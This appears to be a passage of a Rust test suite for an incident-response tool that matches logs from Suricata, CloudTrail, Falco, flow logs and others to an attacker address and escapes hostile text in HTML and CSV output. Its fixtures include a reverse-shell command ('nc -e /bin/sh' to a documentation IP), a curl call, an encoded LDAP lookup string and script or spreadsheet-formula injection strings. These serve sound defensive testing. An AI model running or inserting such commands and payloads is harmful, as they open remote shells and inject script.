//! Logs beside a constructed incident: what of them is shown, where, and as whose words.

use std::fs;

use clap::Parser;
use serde_json::{Value, json};
use staunch_model::text::is_unsafe_to_show;
use staunch_server::dto::IncidentDetail;

use super::super::{Beside, csv, html, text, timeline};
use super::*;
use crate::output::{self, Output};

#[derive(Parser)]
struct Only {
    #[command(flatten)]
    further: FurtherArgs,
}

/// An incident of 203.0.113.9 at 192.0.2.1, about the account `eve` and the process 4242, from noon on.
fn incident() -> IncidentDetail {
    let noon = "2026-11-25T12:00:00Z";
    let transaction = |id: u32, kind: &str, target: &str| {
        json!({"id": format!("TX-{id}"), "incident": "INC-7", "step": 0, "kind": kind, "target": target,
            "state": "in-force", "reason": null, "mode": "enforce", "lease": "10m", "lease_until": null, "created": noon,
            "updated": noon, "in_force_at": noon, "released_at": null, "approved_by": null, "approval_expires": null,
            "judgement": null})
    };
    let detail = json!({
        "incident": {"id": "INC-7", "playbook": "p", "playbook_hash": "00".repeat(32), "key": "203.0.113.9", "status": "open",
            "opened": noon, "closed": null, "outcome": "contained", "events": 1, "system": "suricata",
            "signature": "ET EXPLOIT", "severity": "high", "source": "203.0.113.9", "destination": "192.0.2.1"},
        "transactions": [transaction(1, "lock-account", "account:eve"), transaction(2, "kill-process", "pid:4242@7.1f3c9a07"),
            transaction(3, "sinkhole-domain", "domain:c2.example")],
        "commands": [], "evidence": [],
        "events": [{"lsn": 10, "time": "2026-11-25T11:59:59.8Z", "received": "2026-11-25T12:00:00.000Z", "system": "suricata",
            "signature": "ET EXPLOIT", "severity": "high", "source": "203.0.113.9", "destination": "192.0.2.1"}],
        "timeline": [{"lsn": 10, "at": "2026-11-25T12:00:00.001Z", "transaction": null, "what": "opened", "detail": {}},
            {"lsn": 12, "at": "2026-11-25T12:05:00Z", "transaction": null, "what": "outcome: contained", "detail": {}}],
        "timeline_count": 2,
    });
    serde_json::from_value(detail).expect("it is a detail")
}

/// The timeline of the incident with `logs`, by name and content; each has its name among `arguments` as `LOG:name`.
fn told(logs: &[(&str, &str)], arguments: &[&str]) -> Result<(Value, String), Fault> {
    let folder = tempfile::tempdir().expect("a folder");
    for (name, text) in logs {
        // Named like a packed one, it is.
        let packed = || zstd::encode_all(text.as_bytes(), 3).expect("memory");
        let bytes = match name.split_once('.') {
            Some((_, "zst")) => packed(),
            // A second part that is not whole.
            Some((_, "cut.zst")) => [packed(), packed()[..20].to_vec()].concat(),
            _ => text.as_bytes().to_vec(),
        };
        fs::write(folder.path().join(name), bytes).expect("it is our folder");
    }
    let place = format!("{}/", folder.path().display());
    let named = arguments.iter().map(|it| it.replace("LOG:", &place));
    let only = Only::try_parse_from(["it".to_owned()].into_iter().chain(named)).expect("arguments");
    let (detail, beside) = (incident(), Beside::default());
    let further = read(&detail, &only.further, Err("nothing is sealed".to_owned()))?;
    let timeline = timeline(&detail, further, &beside);
    let shown = text(&Output::plain(), &timeline);
    assert!(
        shown
            .lines()
            .all(|line| line.chars().count() <= 80 || line.contains(&place)),
        "{shown}"
    );
    let json = serde_json::to_value(&timeline).expect("JSON");
    Ok((json, shown.replace(&place, "")))
}

/// Of each entry: the lane, the basis, the words, and who also says so.
fn entries(json: &Value) -> Vec<String> {
    let entry = |it: &Value| {
        let also: Vec<&str> = it["also"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|it| it["system"].as_str())
            .collect();
        let also = if also.is_empty() {
            String::new()
        } else {
            format!(" = {}", also.join(" "))
        };
        let part = |key: &str| it[key].as_str().unwrap_or_default().to_owned();
        format!("{} {} {}{also}", part("lane"), part("basis"), part("what"))
    };
    json["entries"].as_array().expect("a list").iter().map(entry).collect()
}

const FLOWS: &str = "\
2 1 eni-1 203.0.113.9 192.0.2.1 4242 80 6 10 840 1795607940 1795607999 ACCEPT OK
2 1 eni-1 198.51.100.200 198.51.100.201 4242 80 6 10 840 1795607940 1795607999 ACCEPT OK
2 1 eni-1 203.0.113.9 192.0.2.1 4000 80 6 10 840 1795600000 1795600060 ACCEPT OK
2 1 eni-1 203.0.113.9 192.0.2.1 4243 80 6 10 840 1795608180 1795608190 REJECT OK
";

#[test]
fn of_logs_there_is_what_belongs_to_the_incident_where_its_time_puts_it() {
    let (json, text) = told(&[("flows", FLOWS)], &["--logs", "LOG:flows"]).expect("it is read");
    assert_eq!(
        entries(&json),
        [
            "log stated vpc-flow: tcp 203.0.113.9:4242 -> 192.0.2.1:80, ACCEPT, 10 packets, 840 bytes",
            "event observed suricata high: ET EXPLOIT",
            "incident inferred opened",
            "log stated vpc-flow: tcp 203.0.113.9:4243 -> 192.0.2.1:80, REJECT, 10 packets, 840 bytes",
            "incident inferred outcome: contained",
        ]
    );
    let first = &json["entries"][0];
    assert_eq!(first["elapsed_us"], -60_000_000, "{first}");
    assert_eq!(first["lsn"], Value::Null);
    assert_eq!(
        (&first["origin"], &first["kind"]),
        (&json!("flows"), &json!("connection"))
    );
    let log = &json["logs"][0];
    assert_eq!((&log["format"], &log["guessed"]), (&json!("vpc-flow"), &json!(true)));
    assert_eq!(
        ["items", "facts", "outside", "unrelated", "shown", "left_out"].map(|it| log[it].as_u64()),
        [4, 4, 1, 1, 2, 0].map(Some)
    );
    assert_eq!(json["window"]["from"], "2026-11-25T11:00:00.000Z");
    assert!(
        text.contains("flows: vpc-flow (guessed), 2 of 4 entries shown"),
        "{text}"
    );
    assert!(text.contains("   -1m  log      \" vpc-flow: tcp"), "{text}");
    assert!(text.contains("\" stated by a log or a file"), "{text}");

    // What is packed is read as what it is.
    let packed = told(&[("flows.zst", FLOWS)], &["--logs", "LOG:flows.zst"]).expect("it is read");
    assert_eq!(packed.0["logs"][0]["shown"], 2, "{}", packed.1);

    let cut = told(&[("flows.cut.zst", FLOWS)], &["--logs", "LOG:flows.cut.zst"]).expect("it is read");
    assert_eq!(cut.0["logs"][0]["shown"], 2, "{}", cut.1);
    assert_eq!(cut.0["logs"][0]["format"], "vpc-flow");
    assert!(cut.1.contains("; read up to entry 4: "), "{}", cut.1);

    // Everything, of a longer time.
    let all = ["--logs", "LOG:flows", "--all", "--before", "3h"];
    let (json, _) = told(&[("flows", FLOWS)], &all).expect("it is read");
    assert_eq!(json["logs"][0]["shown"], 4);
    let none = ["--logs", "LOG:flows", "--before", "1s", "--after", "0s"];
    let (json, _) = told(&[("flows", FLOWS)], &none).expect("it is read");
    assert_eq!(json["logs"][0]["shown"], 1, "{json:#}");
}

#[test]
fn names_processes_and_domains_of_the_incident_are_found_in_lines() {
    let lines = "\
2026-11-25T12:00:01Z web su[7]: (to root) eve on pts/1
2026-11-25T12:00:01Z web su[7]: (to root) steven on pts/1
2026-11-25T12:00:02Z web app[4242]: hello
2026-11-25T12:00:03Z web app[1]: wrote /home/eve/.profile
2026-11-25T12:00:04Z web app[1]: looked up x.C2.example
2026-11-25T12:00:04Z web app[1]: looked up notc2.example
2026-11-25T12:00:05Z web app[1]: from ::ffff:203.0.113.9 on
2026-11-25T12:00:05Z web app[1]: from 203.0.113.90
2026-11-25T12:00:06Z web dnsmasq[5]: query[A] y.c2.example from 198.51.100.3
";
    let (json, _) = told(&[("app.log", lines)], &["--logs", "LOG:app.log"]).expect("it is read");
    let shown = entries(&json);
    for (part, is_shown) in [
        (" eve on", true),
        ("steven", false),
        ("hello", true),
        ("/home/eve", true),
        (" x.C2", true),
        ("notc2", false),
        ("ffff", true),
        ("113.90", false),
        ("y.c2", true),
    ] {
        assert_eq!(shown.iter().any(|it| it.contains(part)), is_shown, "{part}: {shown:#?}");
    }
}

const QUESTIONS: &str = "\
2026-11-25T12:00:06Z web dnsmasq[5]: query[A] b.c2.example from 198.51.100.3
2026-11-25T12:00:06Z web dnsmasq[5]: reply b.c2.example is 198.51.100.9
2026-11-25T12:00:06Z web dnsmasq[5]: query[A] d.c2.example from 198.51.100.3
2026-11-25T12:00:06Z web dnsmasq[5]: reply d.c2.example is 198.51.100.9
2026-11-25T12:00:07Z web dnsmasq[5]: query[A] e.c2.example from 198.51.100.3
";

#[test]
fn of_one_second_an_answer_stands_behind_its_question() {
    let shown = |text: &str, system: &str| -> Vec<String> {
        let log = format!("{system}=LOG:dns");
        let (json, _) = told(&[("dns", text)], &["--logs", &log]).expect("it is read");
        let words = entries(&json).into_iter().filter_map(|it| {
            let words = it.strip_prefix(&format!("log stated {system}: "))?;
            Some(words.strip_prefix("web dnsmasq[5]: ").unwrap_or(words).to_owned())
        });
        words.collect()
    };
    let as_asked: Vec<&str> = QUESTIONS
        .lines()
        .filter_map(|it| it.split_once("]: "))
        .map(|it| it.1)
        .collect();
    assert_eq!(shown(QUESTIONS, "dnsmasq"), as_asked);
    // The same log with the newest first.
    let reversed: Vec<&str> = QUESTIONS.lines().rev().collect();
    assert_eq!(shown(&reversed.join("\n"), "dnsmasq"), as_asked);

    let record = |kind: &str| {
        json!({"timestamp": "2026-11-25T12:00:01+0000", "event_type": "dns", "src_ip": "192.0.2.1", "src_port": 40_000,
            "dest_ip": "198.51.100.53", "dest_port": 53, "proto": "UDP",
            "dns": {"type": kind, "rcode": "NOERROR", "rrname": "a.c2.example", "rrtype": "A"}})
    };
    let eve = format!("{}\n{}\n", record("query"), record("answer"));
    let shown = shown(&eve, "suricata");
    assert!(
        shown.len() == 2 && shown[0].starts_with("query[A]") && shown[1].starts_with("answer"),
        "{shown:#?}"
    );
}

fn alert(at: &str) -> String {
    format!(
        "{{\"timestamp\":\"2026-11-25T{at}Z\",\"event_type\":\"alert\",\"src_ip\":\"192.0.2.1\",\"dest_ip\":\"203.0.113.9\",\
         \"alert\":{{\"signature\":\"ET EXPLOIT\",\"severity\":1}}}}\n"
    )
}

fn flow(at: &str) -> String {
    format!(
        "{{\"timestamp\":\"2026-11-25T12:04:00Z\",\"event_type\":\"flow\",\"src_ip\":\"203.0.113.9\",\"src_port\":4242,\
         \"dest_ip\":\"192.0.2.1\",\"dest_port\":80,\"proto\":\"TCP\",\"flow\":{{\"start\":\"2026-11-25T{at}Z\"}}}}\n"
    )
}

#[test]
fn the_same_fact_from_several_sources_is_one_entry_that_names_them() {
    // The flow log rounds down to 11:59:00.
    let eve = format!("{}{}{}", alert("11:59:59.8"), alert("11:59:59.9"), flow("11:59:00.9"));
    let logs = [("eve.json", eve.as_str()), ("flows", FLOWS)];
    let both = ["--logs", "LOG:flows", "--logs", "LOG:eve.json"];
    let (json, text) = told(&logs, &both).expect("it is read");
    let shown = entries(&json);
    // The event that was received and one line are one; the second line of the same log is another event.
    assert_eq!(
        shown.iter().filter(|it| it.contains("ET EXPLOIT")).collect::<Vec<_>>(),
        [
            "log stated suricata high: ET EXPLOIT, packet 192.0.2.1 -> 203.0.113.9",
            "event observed suricata high: ET EXPLOIT = suricata"
        ]
    );
    // Suricata comes before the flow log, whichever was named first.
    let connections: Vec<&String> = shown.iter().filter(|it| it.contains("4242")).collect();
    assert_eq!(
        connections,
        ["log stated suricata: tcp 203.0.113.9:4242 -> 192.0.2.1:80, 0 bytes there, 0 back = vpc-flow"]
    );
    let joined = json["entries"]
        .as_array()
        .expect("a list")
        .iter()
        .find(|it| it["kind"] == "connection");
    let joined = joined.expect("it is there");
    assert_eq!(joined["inferred"], json!(["joined"]), "{joined}");
    assert_eq!(joined["also"][0]["origin"], "flows");
    assert_eq!(joined["also"][0]["at"], "2026-11-25T11:59:00.000Z");
    assert!(
        joined["also"][0]["what"]
            .as_str()
            .is_some_and(|it| it.contains("ACCEPT")),
        "{joined}"
    );
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        flat.contains("0 back; taken for the same: vpc-flow (flows) at 11:59:00.000"),
        "{flat}"
    );

    let first = [&both[..], &["--priority", "vpc-flow,suricata"]].concat();
    let (json, _) = told(&logs, &first).expect("it is read");
    let shown = entries(&json);
    assert!(
        shown
            .iter()
            .any(|it| it.starts_with("log stated vpc-flow: tcp 203.0.113.9:4242") && it.ends_with(" = suricata")),
        "{shown:#?}"
    );
}

#[test]
fn the_same_line_of_an_application_in_two_copies_of_its_log_is_one_entry() {
    let line = |second: u32, path: &str| {
        format!("2026-11-25T12:00:{second:02}Z web app[1]: request from 203.0.113.9 path={path}\n")
    };
    // Twice in one log, it happened twice.
    let first = [line(1, "/login"), line(1, "/login"), line(2, "/admin")].concat();
    let second = [line(1, "/login"), line(2, "/admin"), line(3, "/admin")].concat();
    let logs = [("app", &*first), ("copy", &*second)];
    let arguments = ["--logs", "LOG:app", "--logs", "LOG:copy"];
    let (json, _) = told(&logs, &arguments).expect("it is read");
    let found = entries(&json);
    let of_log: Vec<&str> = found
        .iter()
        .map(String::as_str)
        .filter(|it| it.contains("request from"))
        .collect();
    let said = |it: &str| (it.contains("/login"), it.contains(" = "));
    let shown: Vec<(bool, bool)> = of_log.iter().map(|it| said(it)).collect();
    assert_eq!(
        shown,
        [(true, true), (true, false), (false, true), (false, false)],
        "{of_log:#?}"
    );
}

#[test]
fn two_seconds_by_clocks_that_are_set_right_are_what_may_lie_between_the_same_fact() {
    let joined = |start: &str, clock: &[&str]| {
        let eve = flow(start);
        let logs = [("eve.json", eve.as_str()), ("flows", FLOWS)];
        let both = [&["--logs", "LOG:flows", "--logs", "LOG:eve.json"], clock].concat();
        let (json, _) = told(&logs, &both).expect("it is read");
        let shown = entries(&json).iter().filter(|it| it.contains("4242")).count();
        (shown, json)
    };
    assert_eq!(joined("11:59:02", &[]).0, 1);
    assert_eq!(joined("11:58:58", &[]).0, 1);
    assert_eq!(joined("11:59:02.001", &[]).0, 2);
    assert_eq!(joined("11:58:57.999", &[]).0, 2);
    // A clock that is ahead by an hour.
    assert_eq!(joined("12:59:01", &[]).0, 2);
    let (count, json) = joined("12:59:01", &["--clock", "suricata=+1h"]);
    assert_eq!(count, 1, "{json:#}");
    let entry = json["entries"]
        .as_array()
        .expect("a list")
        .iter()
        .find(|it| it["kind"] == "connection");
    let entry = entry.expect("it is there");
    assert_eq!(
        (&entry["at"], &entry["source_time"]),
        (&json!("2026-11-25T11:59:01.000Z"), &json!("2026-11-25T12:59:01.000Z"))
    );
    let clock = json["clocks"]
        .as_array()
        .expect("a list")
        .iter()
        .find(|it| it["system"] == "suricata");
    let clock = clock.expect("it is there");
    assert_eq!(
        (&clock["stated_offset_us"], &clock["log_entries"]),
        (&json!(3_600_000_000_u64), &json!(1))
    );
    let (count, _) = joined("11:58:01", &["--clock", "suricata=-1m"]);
    assert_eq!(count, 1);
    // What differs in one party is another fact.
    let other = flow("11:59:00").replace("4242", "4244");
    let logs = [("eve.json", other.as_str()), ("flows", FLOWS)];
    let (json, _) = told(&logs, &["--logs", "LOG:flows", "--logs", "LOG:eve.json"]).expect("it is read");
    assert!(entries(&json).iter().all(|it| !it.contains(" = ")), "{json:#}");
}

#[test]
fn a_time_without_a_year_is_marked_as_inferred_everywhere() {
    let line = "Nov 25 12:00:03 web sshd[1]: Failed password for eve from 203.0.113.9 port 4 ssh2\n";
    let (json, text) = told(&[("auth.log", line)], &["--logs", "log=LOG:auth.log"]).expect("it is read");
    let entry = &json["entries"][2];
    assert_eq!(entry["at"], "2026-11-25T12:00:03.000Z", "{json:#}");
    assert_eq!(
        (&entry["basis"], &entry["inferred"]),
        (&json!("inferred"), &json!(["year", "zone"]))
    );
    assert_eq!(json["logs"][0]["guessed"], false);
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains("log ~ log: web sshd[1]: Failed"), "{text}");
    assert!(flat.contains("(year and zone inferred)"), "{text}");
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("auth.log");
    fs::write(&path, line).expect("it is our folder");
    let (detail, beside) = (incident(), Beside::default());
    let argument = path.display().to_string();
    let only = Only::try_parse_from(["it", "--logs", &argument]).expect("arguments");
    let further = || read(&detail, &only.further, Err(String::new())).expect("it is read");
    let page = html::page(&timeline(&detail, further(), &beside), None);
    assert!(page.contains("<td>inferred: year, zone</td>"), "{page}");
    let sheet = csv(&timeline(&detail, further(), &beside).entries).expect("CSV");
    assert!(sheet.contains(",inferred,log,auth.log,year zone,"), "{sheet}");
}

#[test]
fn words_of_attackers_stay_words_in_every_format() {
    let hostile = "=HYPERLINK(\"x\")</td><script>alert(1)</script>\u{1b}[31m\u{202e}\u{9b}";
    let name = "=<b>x.log";
    let lines = format!("2026-11-25T12:00:01Z 203.0.113.9 {hostile}\n{hostile}\n2026-11-25T12:00:01Z eve {hostile}\n");
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join(name);
    fs::write(&path, lines).expect("it is our folder");
    let (detail, beside) = (incident(), Beside::default());
    let argument = format!("log={}", path.display());
    let only = Only::try_parse_from(["it", "--logs", &argument]).expect("arguments");
    let further = read(&detail, &only.further, Err(String::new())).expect("it is read");
    let timeline = timeline(&detail, further, &beside);
    assert_eq!(timeline.logs[0].shown, 2, "{:?}", timeline.logs);
    let page = html::page(&timeline, None);
    assert!(page.contains("class=\"mark stated\""), "{page}");
    assert!(!page.contains("<script") && !page.contains("<b>"), "{page}");
    let sheet = csv(&timeline.entries).expect("CSV");
    assert!(sheet.contains(",'=<b>x.log,"), "{sheet}");
    let mut rows = csv::Reader::from_reader(sheet.as_bytes());
    for row in rows.records() {
        let row = row.expect("a row");
        assert!(row.iter().all(|it| !it.starts_with(['=', '+', '@'])), "{row:?}");
    }
    let shown_text = text(&Output::plain(), &timeline);
    let json = output::json(&timeline).expect("JSON");
    for shown in [page, sheet, shown_text, json] {
        assert!(shown.contains("203.0.113.9"), "{shown}");
        let found = shown.chars().find(|c| *c != '\n' && is_unsafe_to_show(*c));
        assert_eq!(found, None, "{shown}");
    }
}

#[test]
fn what_cannot_be_read_is_an_error_with_a_hint() {
    let fault = |logs: &[(&str, &str)], arguments: &[&str]| {
        let fault = told(logs, arguments).expect_err("it cannot be read");
        (fault.exit, fault.render(false, false))
    };
    let (exit, shown) = fault(&[("x", "what is this\n")], &["--logs", "LOG:x"]);
    assert_eq!(exit, Exit::Usage, "{shown}");
    assert!(shown.contains("vpc-flow"), "{shown}");
    // Beside one that is read they are told.
    let logs = [("flows", FLOWS), ("x", "what is this\n"), ("empty", "")];
    let (json, _) = told(
        &logs,
        &["--logs", "LOG:x", "--logs", "LOG:flows", "--logs", "LOG:empty"],
    )
    .expect("one is read");
    let failed = |at: usize| json["logs"][at]["failed"].as_str().unwrap_or_default().to_owned();
    assert!(
        failed(0).starts_with("its format is not known") && failed(0).contains("log="),
        "{json:#}"
    );
    assert_eq!((failed(1), failed(2)), (String::new(), "it is empty".to_owned()));
    assert_eq!(json["logs"][1]["shown"], 2);
    let (exit, shown) = fault(&[("empty", "")], &["--logs", "LOG:empty"]);
    assert!(exit == Exit::Usage && shown.contains("it is empty"), "{shown}");
    let (exit, shown) = fault(&[], &["--logs", "LOG:"]);
    assert!(
        exit == Exit::Usage && shown.contains("--logs /") && !shown.contains("jq"),
        "{shown}"
    );
    let (exit, shown) = fault(&[], &["--all"]);
    assert_eq!(exit, Exit::Usage, "{shown}");
    let (exit, _) = fault(&[], &["--logs", "LOG:nothing"]);
    assert_eq!(exit, Exit::NotFound);
    let (exit, shown) = fault(&[("flows", FLOWS)], &["--logs", "LOG:flows", "--clock", "suricat=+2s"]);
    assert_eq!(exit, Exit::Usage);
    assert!(shown.contains("there is no source suricat"), "{shown}");
    let (exit, _) = fault(&[("flows", FLOWS)], &["--logs", "LOG:flows", "--priority", "nobody"]);
    assert_eq!(exit, Exit::Usage);
}

#[test]
fn a_log_that_cannot_be_opened_is_told_and_the_others_are_shown() {
    let folder = tempfile::tempdir().expect("a folder");
    let place = |name: &str| folder.path().join(name).display().to_string();
    fs::write(place("flows"), FLOWS).expect("it is our folder");
    fs::create_dir(place("logs")).expect("it is our folder");
    let (detail, beside) = (incident(), Beside::default());
    let (absent, directory) = (format!("cloudtrail={}", place("nope.log")), place("logs"));
    let of = |logs: &[&str]| {
        let arguments = logs.iter().flat_map(|it| ["--logs", it]);
        let only = Only::try_parse_from(["it"].into_iter().chain(arguments)).expect("arguments");
        read(&detail, &only.further, Err(String::new()))
    };
    let flows = place("flows");
    for logs in [[&*absent, &directory, &flows], [&*flows, &absent, &directory]] {
        let further = of(&logs).expect("one is read");
        // Those that are not there leave their share of the room.
        assert_eq!(further.logs_left, 0);
        let timeline = timeline(&detail, further, &beside);
        let told = timeline.told();
        let of = |log: &str| {
            let at = logs.iter().position(|it| it.ends_with(log)).expect("it is one of them");
            told[at].replace(&place(""), "")
        };
        assert_eq!(
            of("nope.log"),
            "nope.log: not read: No such file or directory (os error 2)"
        );
        assert_eq!(of("logs"), "logs: not read: it is a directory");
        assert_eq!(timeline.logs.iter().map(|it| it.shown).sum::<u64>(), 2, "{told:?}");
    }
    // The first one is the error where there is no other.
    for (logs, exit) in [
        ([&*absent, &directory], Exit::NotFound),
        ([&*directory, &absent], Exit::Usage),
    ] {
        let fault = of(&logs).expect_err("none is read");
        assert_eq!(fault.exit, exit, "{}", fault.render(false, false));
    }
}

#[test]
fn who_may_not_read_a_log_is_told_what_to_do_about_that() {
    let hint = |kind: io::ErrorKind| {
        let fault = unopened("x", &kind.into());
        (fault.exit, fault.advice().unwrap_or_default().to_owned())
    };
    let (exit, denied) = hint(io::ErrorKind::PermissionDenied);
    assert_eq!(exit, Exit::Denied);
    assert!(
        denied.contains("as a user who may read it") && !denied.contains("format"),
        "{denied}"
    );
    let (exit, absent) = hint(io::ErrorKind::NotFound);
    assert!(exit == Exit::NotFound && absent.contains("vpc-flow"), "{absent}");
}

#[test]
fn a_document_that_ends_early_is_shown_up_to_there() {
    let record = r#"{"eventVersion":"1.08","eventTime":"2026-11-25T12:00:01Z","eventSource":"iam.amazonaws.com","eventName":"DeleteTrail","sourceIPAddress":"203.0.113.9"}"#;
    let cut = format!("{{\"Records\":[{record},{record},{{\"ev");
    for name in ["ct.json", "ct.zst", "ct.cut.zst"] {
        let (json, text) = told(&[(name, &cut)], &["--logs", &format!("LOG:{name}")]).expect("it is read");
        let log = &json["logs"][0];
        assert_eq!(
            (&log["shown"], &log["unreadable"]),
            (&json!(2), &json!(0)),
            "{name}: {log}"
        );
        let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(
            flat.contains("cloudtrail (guessed), 2 of 2 entries shown; read up to entry 2: "),
            "{name}: {flat}"
        );
        // Of what cannot be unpacked to its end, that is the reason.
        let is_told = flat.contains("entry 2: the document ends before it is whole");
        assert_eq!(is_told, name != "ct.cut.zst", "{name}: {flat}");
    }
}

#[test]
fn what_names_only_the_attacked_side_is_of_the_incident_beside_its_events_only() {
    // The first event happened at 11:59:59.8 and was received at 12:00.
    let line = |at: &str, from: &str| format!("2026-11-25T{at}Z conn {from} to 192.0.2.1\n");
    let lines = [
        line("11:58:59.799", "198.51.100.1"),
        line("11:58:59.8", "198.51.100.2"),
        line("12:01:00", "198.51.100.3"),
        line("12:01:00.001", "198.51.100.4"),
        line("12:30:00", "203.0.113.9"),
        line("12:30:00", "198.51.100.5").replace("192.0.2.1", "192.0.2.10"),
    ]
    .concat();
    let (json, text) = told(&[("app.log", &lines)], &["--logs", "LOG:app.log"]).expect("it is read");
    let shown = entries(&json);
    for (part, is_shown) in [
        ("100.1 ", false),
        ("100.2 ", true),
        ("100.3 ", true),
        ("100.4 ", false),
        ("0.113.9 ", true),
    ] {
        assert_eq!(shown.iter().any(|it| it.contains(part)), is_shown, "{part}: {shown:#?}");
    }
    let log = &json["logs"][0];
    assert_eq!(
        (&log["only_attacked"], &log["unrelated"], &log["shown"]),
        (&json!(2), &json!(1), &json!(3))
    );
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains("2 only of the attacked side"), "{text}");
    let (json, _) = told(&[("app.log", &lines)], &["--logs", "LOG:app.log", "--all"]).expect("it is read");
    assert_eq!(json["logs"][0]["shown"], 6);
}

#[test]
fn who_says_the_same_is_named_up_to_a_bound_and_counted_beyond() {
    let names: Vec<String> = (0..11).map(|at| format!("flows{at}")).collect();
    let logs: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), FLOWS)).collect();
    let arguments: Vec<String> = names.iter().map(|name| format!("--logs=LOG:{name}")).collect();
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let (json, text) = told(&logs, &arguments).expect("it is read");
    let first = &json["entries"][0];
    assert_eq!(first["also"].as_array().map(Vec::len), Some(8), "{first:#}");
    assert_eq!(first["also_more"], 2);
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains("; and 2 more that are not named"), "{flat}");
}

#[test]
fn entries_are_bounded_and_what_was_left_out_is_told() {
    let lines: String = (0..ENTRIES_MAX + 5)
        .map(|at| format!("2026-11-25T12:00:01.{at:06}Z eve {at}\n"))
        .collect();
    let (json, text) = told(&[("app.log", &lines)], &["--logs", "LOG:app.log"]).expect("it is read");
    assert_eq!(json["entries"].as_array().map(Vec::len), Some(ENTRIES_MAX + 3));
    assert_eq!(json["logs"][0]["left_out"], 5);
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        flat.contains("5 left out for want of room, 10000 in all"),
        "{}",
        &flat[..500]
    );
    // One that is flooded leaves room for those that are read after it.
    let small = "2026-11-25T12:00:02Z eve was here\n";
    let logs = [("flood.log", lines.as_str()), ("small.log", small)];
    let (json, _) = told(&logs, &["--logs", "LOG:flood.log", "--logs", "LOG:small.log"]).expect("it is read");
    assert_eq!(json["logs"][0]["shown"], ENTRIES_MAX / 2);
    assert_eq!(json["logs"][1]["shown"], 1);
}

/// Records whose sides are not the attacker, who stands somewhere else in them.
#[test]
fn who_is_named_anywhere_in_a_record_makes_it_one_of_the_incident() {
    let at = "2026-11-25T12:00:01Z";
    let cloudtrail = |cidr: &str| {
        json!({"eventVersion": "1.08", "eventTime": at, "eventSource": "ec2.amazonaws.com", "eventID": "e1",
            "eventName": "AuthorizeSecurityGroupIngress", "awsRegion": "eu-central-1", "sourceIPAddress": "198.51.100.7",
            "userIdentity": {"type": "IAMUser", "userName": "bob"},
            "requestParameters": {"ipPermissions": {"items": [{"ipRanges": {"items": [{"cidrIp": cidr}]}}]}}})
    };
    let suricata = json!({"timestamp": "2026-11-25T12:00:01.000000+0000", "event_type": "http", "src_ip": "10.0.0.5",
        "src_port": 41000, "dest_ip": "198.51.100.8", "dest_port": 3128, "proto": "TCP",
        "http": {"hostname": "203.0.113.9", "url": "/x", "http_method": "GET"}});
    let falco = |fields: Value| {
        json!({"time": at, "rule": "Reverse shell", "priority": "Critical", "source": "syscall", "output": "a shell",
            "output_fields": fields})
    };
    let alertmanager = json!({"status": "firing", "labels": {"alertname": "HostDown", "severity": "critical",
        "instance": "203.0.113.9:9100"}, "annotations": {}, "startsAt": at, "fingerprint": "dd19ae3d4e06ac55"});
    let guardduty = json!({"version": "0", "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "time": at,
        "detail": {"schemaVersion": "2.0", "id": "f1", "arn": "arn:x", "accountId": "1", "region": "r", "severity": 8,
        "type": "UnauthorizedAccess:EC2/SSHBruteForce", "title": "it tries", "createdAt": at, "updatedAt": at,
        "service": {"serviceName": "guardduty", "resourceRole": "ACTOR", "eventFirstSeen": at, "eventLastSeen": at,
            "action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                "remoteIpDetails": {"ipAddressV4": "203.0.113.9"}, "localIpDetails": {"ipAddressV4": "10.0.0.5"}}}},
        "resource": {"resourceType": "Instance"}}});
    let journal = json!({"MESSAGE": "began", "_CMDLINE": "nc -e /bin/sh 203.0.113.9 4444",
        "__REALTIME_TIMESTAMP": "1795608001000000"});
    let seventeen: String = (1..=17).map(|it| format!("10.9.9.{it} ")).collect();
    let access = format!(
        "198.51.100.7 - - [25/Nov/2026:12:00:01 +0000] \"GET /{}?u=ldap%3A%2F%2F203.0.113.9%3A1389%2Fa HTTP/1.1\" 200 1\n",
        seventeen.replace(' ', "/")
    );
    let rows = [
        ("cloudtrail", cloudtrail("203.0.113.9/32").to_string(), true),
        // A network that has the address is not the address, and one that begins like it is another.
        ("cloudtrail", cloudtrail("203.0.113.0/24").to_string(), false),
        ("cloudtrail", cloudtrail("203.0.113.90/32").to_string(), false),
        ("suricata", suricata.to_string(), true),
        (
            "falco",
            falco(json!({"fd.name": "10.0.0.5:41->203.0.113.9:4444"})).to_string(),
            true,
        ),
        (
            "falco",
            falco(json!({"proc.cmdline": "curl http://203.0.113.9/x"})).to_string(),
            true,
        ),
        (
            "falco",
            falco(json!({"proc.cmdline": "curl http://1203.0.113.9/x"})).to_string(),
            false,
        ),
        ("alertmanager", alertmanager.to_string(), true),
        ("guardduty", guardduty.to_string(), true),
        ("journal", journal.to_string(), true),
        ("access", access, true),
        ("log", format!("{at} {seventeen}203.0.113.9\n"), true),
    ];
    for (format, line, is_shown) in rows {
        let line = format!("{}\n", line.trim_end());
        let argument = format!("--logs={format}=LOG:it");
        let (json, text) = told(&[("it", &line)], &[&argument]).expect("it is read");
        let log = &json["logs"][0];
        assert_eq!(log["facts"], 1, "{format} {line}: {log}");
        assert_eq!(log["shown"] == 1, is_shown, "{format} {line}: {log}");
        if is_shown {
            let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(flat.contains("203.0.113.9"), "it is not said why it is here: {text}");
            let shown = entries(&json)
                .into_iter()
                .find(|it| it.starts_with("log"))
                .expect("it is shown");
            assert!(shown.contains("203.0.113.9"), "it is not said why it is here: {shown}");
        }
    }
}

#[test]
fn a_log_that_cannot_be_read_to_its_end_keeps_nothing_of_the_others_back() {
    let folder = tempfile::tempdir().expect("a folder");
    let flows = folder.path().join("flows");
    fs::write(&flows, FLOWS).expect("it is our folder");
    // The memory of a process can be opened, and its first page cannot be read.
    let broken = "/proc/self/mem";
    let (detail, beside) = (incident(), Beside::default());
